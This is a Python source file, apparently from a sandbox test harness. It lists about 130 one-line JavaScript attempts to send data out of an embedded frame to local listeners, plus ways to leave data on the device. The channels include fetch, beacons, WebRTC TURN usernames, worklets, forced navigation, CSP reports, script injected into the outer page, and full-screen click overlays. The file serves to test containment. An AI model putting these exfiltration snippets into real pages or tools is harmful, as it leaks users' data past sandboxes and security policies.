"""The ways to get data out of a page that are tried, each as a line of JavaScript.

A script has `url`, an address of the listener with the data in it, `data` itself, `ports` of the
listener, and `PRELUDE`. It runs in the frame that holds the tool, as code would that someone hid
in the file. Reached means that the data arrived, not that the script ran.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Final


class Way(Enum):
    """What an attempt does to the page, and what it needs."""

    STAYS = "the page lives on"
    LEAVES = "the page is left, unless something forbids it"
    CLICK = "as LEAVES, and a person clicks what the script made"


@dataclass(frozen=True, slots=True)
class Attempt:
    """One way to get data out. port: where any packet at all counts, as it can hold no text."""

    name: str
    script: str
    way: Way
    port: str = ""


PRELUDE: Final = """
const add = (tag, attributes = {}, place = document.body) => {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  place.append(made);
  return made;
};
const link = (rel, more = {}) => add("link", {rel, href: url, ...more}, document.head);
const style = (text) => add("style", {}, document.head).append(text);
const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const child = (attributes) => add("iframe", attributes).contentWindow;
const svg = (inside) => {
  const xml = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`;
  const parsed = new DOMParser().parseFromString(xml, "image/svg+xml");
  document.body.append(document.importNode(parsed.documentElement, true));
};
const call = (Peer, server) => {
  const peer = new Peer({iceServers: [server]});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  window.calls = [...window.calls ?? [], peer];
};
const turn = {urls: `turn:127.0.0.1:${ports.turn}?transport=tcp`, username: data, credential: "x"};
const target = (tag, attributes, act) => {
  document.querySelector("#attempt")?.remove();
  const made = add(tag, {id: "attempt", ...attributes});
  made.style = "position:fixed;inset:0 auto auto 0;width:90px;height:90px;z-index:2147483647";
  made.append("attempt");
  if (act) made.onclick = act;
  return made;
};
"""

_STAYS: Final = {
    "fetch": "fetch(url)",
    "fetch: posted": "fetch(url, {method: 'POST', mode: 'no-cors', body: data})",
    "fetch: keepalive": "fetch(url, {method: 'POST', keepalive: true, mode: 'no-cors'})",
    "fetchLater": "fetchLater(url, {activateAfter: 0})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', url); x.send(data)",
    "XMLHttpRequest: synchronous": (
        "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()"
    ),
    "beacon": "navigator.sendBeacon(url, data)",
    "WebSocket": "new WebSocket(url.replace('http', 'ws'))",
    "WebSocketStream": "new WebSocketStream(url.replace('http', 'ws'))",
    "EventSource": "new EventSource(url)",
    "WebTransport": "new WebTransport(`https://127.0.0.1:${ports.quic}/${data}`)",
    "img": "add('img', {src: url})",
    "img: srcset": "add('img', {srcset: `${url} 1x`})",
    "picture": "const p = add('picture'); add('source', {srcset: url}, p); add('img', {}, p)",
    "img: attributionsrc": "add('img', {attributionsrc: url})",
    "style: background": "add('p').style.backgroundImage = `url(${url})`",
    "style: border image": "style(`body {border: 9px solid; border-image: url(${url}) 9}`)",
    "style: @import": "style(`@import url(${url});`)",
    "style: @font-face": "style(`@font-face {font-family: x; src: url(${url})} * {font: 9px x}`)",
    "FontFace": "new FontFace('x', `url(${url})`).load()",
    "adopted style sheet": (
        "const sheet = new CSSStyleSheet();"
        "sheet.replaceSync(`body {list-style: url(${url})} body {display: list-item}`);"
        "document.adoptedStyleSheets = [sheet]"
    ),
    "body background": "document.body.setAttribute('background', url)",
    "base and img": "add('base', {href: url + '/'}, document.head); add('img', {src: 'x'})",
    "svg image": "svg(`<image href='${url}' width='9' height='9'/>`)",
    "svg use": "svg(`<use href='${url}#x'/>`)",
    "svg feImage": (
        "svg(`<filter id='f'><feImage href='${url}'/></filter>"
        "<rect width='9' height='9' filter='url(#f)'/>`)"
    ),
    "link: stylesheet": "link('stylesheet')",
    "link: preload": "link('preload', {as: 'image'})",
    "link: prefetch": "link('prefetch')",
    "link: prerender": "link('prerender')",
    "link: icon": "link('icon')",
    "link: manifest": "link('manifest')",
    "link: modulepreload": "link('modulepreload')",
    "speculation rules: prefetch": (
        "add('script', {type: 'speculationrules'}).textContent ="
        "JSON.stringify({prefetch: [{source: 'list', urls: [url]}]})"
    ),
    "speculation rules: prerender": (
        "add('script', {type: 'speculationrules'}).textContent ="
        "JSON.stringify({prerender: [{source: 'list', urls: [url]}]})"
    ),
    "script": "add('script', {src: url})",
    "script: module": "add('script', {type: 'module', src: url})",
    "script: inline": "add('script').textContent = `fetch('${url}')`",
    "import()": "import(url)",
    "eval": "setTimeout(`fetch('${url}')`)",
    "worker": "new Worker(url)",
    "worker: from a blob": "new Worker(blob(`fetch('${url}')`, 'text/javascript'))",
    "worker: importScripts": "new Worker(blob(`importScripts('${url}')`, 'text/javascript'))",
    "shared worker": "new SharedWorker(blob(`fetch('${url}')`, 'text/javascript'))",
    "service worker": "navigator.serviceWorker.register(url)",
    "audio worklet": "new AudioContext().audioWorklet.addModule(url)",
    "paint worklet": "CSS.paintWorklet.addModule(url)",
    "iframe": "child({src: url})",
    "iframe: srcdoc": "child({srcdoc: `<img src='${url}'>`})",
    "iframe: fetch of an empty child": "child({}).fetch(url)",
    "iframe: img in an empty child": "add('img', {src: url}, child({}).document.body)",
    "iframe: data": "child({src: `data:text/html,<img src='${url}'>`})",
    "iframe: blob": "child({src: blob(`<img src='${url}'>`, 'text/html')})",
    "iframe: script in a blob": (
        "child({src: blob(`<script>fetch('${url}')</script>`, 'text/html')})"
    ),
    "iframe: javascript": "child({src: `javascript:fetch('${url}')`})",
    "object": "add('object', {data: url})",
    "embed": "add('embed', {src: url})",
    "fenced frame": "add('fencedframe').config = new FencedFrameConfig(url)",
    "video": "add('video', {src: url, preload: 'auto'})",
    "video: poster": "add('video', {poster: url})",
    "audio": "add('audio', {src: url, preload: 'auto'})",
    "track": (
        "const v = add('video', {src: blob('', 'video/mp4'), crossorigin: ''});"
        "add('track', {src: url, default: ''}, v).track.mode = 'showing'"
    ),
    "input image": "add('input', {type: 'image', src: url})",
    "wasm": (
        "WebAssembly.instantiate(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,97,1,"
        "97,0,0,8,1,0]), {a: {a: () => fetch(url)}})"
    ),
    "wasm: streamed": "WebAssembly.compileStreaming(fetch(url))",
    "WebRTC: TURN": "call(RTCPeerConnection, turn)",
    "WebRTC: TURN, old name": "call(webkitRTCPeerConnection, turn)",
    "WebRTC: TURN from an empty child": "call(child({}).RTCPeerConnection, turn)",
    "WebRTC: TURN from a srcdoc child": (
        "const c = child({srcdoc: '<p>x'});setTimeout(() => call(c.RTCPeerConnection, turn), 300)"
    ),
    "WebRTC: TURN from the outer page": "call(top.RTCPeerConnection, turn)",
    "FedCM": (
        "navigator.credentials.get({identity: {providers: [{configURL: url, clientId: data}]}})"
    ),
    "payment": (
        "new PaymentRequest([{supportedMethods: url}], {total: {label: 'x', amount:"
        "{currency: 'EUR', value: '1'}}}).canMakePayment()"
    ),
    "report of the policy": (
        "add('meta', {'http-equiv': 'Content-Security-Policy',"
        "content: `frame-src 'none'; report-uri ${url}`}, document.head); child({src: 'data:,'})"
    ),
    "message to the outer page": "parent.postMessage(url, '*')",
    "script in the outer page": (
        "const s = top.document.createElement('script');"
        "s.textContent = `fetch('${url}')`; top.document.body.append(s)"
    ),
    "img in the outer page": "add('img', {src: url}, top.document.body)",
}

_LEAVES: Final = {
    "location.href": "location.href = url",
    "location.assign": "location.assign(url)",
    "location.replace": "location.replace(url)",
    "location: data": "location = `data:text/html,<script>fetch('${url}')</script>`",
    "location: blob": "location = blob(`<script>fetch('${url}')</script>`, 'text/html')",
    "location: javascript": "location = `javascript:fetch('${url}')`",
    "iframe: new sandbox": (
        "child({sandbox: 'allow-scripts allow-top-navigation allow-popups',"
        "src: `data:text/html,<script>top.location = '${url}'</script>`})"
    ),
    "navigation.navigate": "navigation.navigate(url)",
    "top.location": "top.location = url",
    "parent.location": "parent.location.replace(url)",
    "history": "history.pushState({}, '', url); location.reload()",
    "meta refresh": "add('meta', {'http-equiv': 'refresh', content: `0;url=${url}`})",
    "document.write": "document.write(`<img src='${url}'>`); document.close()",
    "form: GET": "add('form', {action: url}).submit()",
    "form: POST": (
        "const f = add('form', {action: url, method: 'post'});"
        "add('input', {name: 'x', value: data}, f); f.submit()"
    ),
    "form: new tab": "add('form', {action: url, target: '_blank'}).submit()",
    "form: outer page": "add('form', {action: url, target: '_top'}).submit()",
    "a: clicked by script": "add('a', {href: url}).click()",
    "a: outer page": "add('a', {href: url, target: '_top'}).click()",
    "a: download": "add('a', {href: url, download: 'x'}).click()",
    "window.open": "window.open(url)",
    "window.open: itself": "window.open(url, '_self')",
    "window.open: outer page": "window.open(url, '_top')",
    "window.name, then a leave": "window.name = data; top.location = url",
}

_CLICK: Final = {
    "click: a": "target('a', {href: url})",
    "click: a, new tab": "target('a', {href: url, target: '_blank'})",
    "click: a, outer page": "target('a', {href: url, target: '_top'})",
    "click: a, download": "target('a', {href: url, download: 'x'})",
    "click: a, ping": "target('a', {href: '#x', ping: url})",
    "click: a, attributionsrc": "target('a', {href: '#x', attributionsrc: url})",
    "click: form": "add('form', {action: url}).append(target('button', {}))",
    "click: form, new tab": (
        "add('form', {action: url, target: '_blank'}).append(target('button', {}))"
    ),
    "click: formaction": "add('form').append(target('button', {formaction: url}))",
    "click: window.open": "target('button', {}, () => window.open(url))",
    "click: location": "target('button', {}, () => { location = url; })",
    "click: top.location": "target('button', {}, () => { top.location = url; })",
    "click: svg a": (
        "svg(`<a id='attempt' href='${url}'><rect width='9' height='9'/></a>`);"
        "document.querySelector('svg:last-of-type').style ="
        "'position:fixed;inset:0 auto auto 0;z-index:2147483647'"
    ),
    "click: payment": (
        "target('button', {}, () => new PaymentRequest([{supportedMethods: url}], {total:"
        "{label: 'x', amount: {currency: 'EUR', value: '1'}}}).show())"
    ),
}

ATTEMPTS: Final = (
    *(Attempt(name, script, Way.STAYS) for name, script in _STAYS.items()),
    *(Attempt(name, script, Way.LEAVES) for name, script in _LEAVES.items()),
    *(Attempt(name, script, Way.CLICK) for name, script in _CLICK.items()),
    Attempt(
        "WebRTC: STUN",
        "call(RTCPeerConnection, {urls: `stun:127.0.0.1:${ports.stun}`})",
        Way.STAYS,
        port="stun",
    ),
)

BARE: Final = (
    Attempt(
        "link: preconnect",
        "link('preconnect', {href: `http://127.0.0.1:${ports.bare}/`})",
        Way.STAYS,
        port="bare",
    ),
    Attempt(
        "link: dns-prefetch",
        "link('dns-prefetch', {href: `http://127.0.0.1:${ports.bare}/`})",
        Way.STAYS,
        port="bare",
    ),
)
"""The known residue: a connection without data, told apart and counted, see docs/page.md."""

STORES: Final = {
    "cookie": "document.cookie = `a=${data}; max-age=99999`; return document.cookie.includes(data)",
    "localStorage": "localStorage.a = data; return localStorage.a === data",
    "sessionStorage": "sessionStorage.a = data; return sessionStorage.a === data",
    "IndexedDB": (
        "return new Promise((yes, no) => { const o = indexedDB.open(data);"
        "o.onsuccess = () => yes(true); o.onerror = no; })"
    ),
    "Cache": "return caches.open(data).then(() => true)",
    "private files": "return navigator.storage.getDirectory().then(() => true)",
    "cookie store": "return cookieStore.set('b', data).then(() => true)",
    "name of the outer window": "top.name = data; return top.name === data",
    "history of the outer window": (
        "top.history.pushState({}, '', `#${data}`); return top.location.href.includes(data)"
    ),
}
"""The ways to leave something behind on the device; each returns whether it worked."""
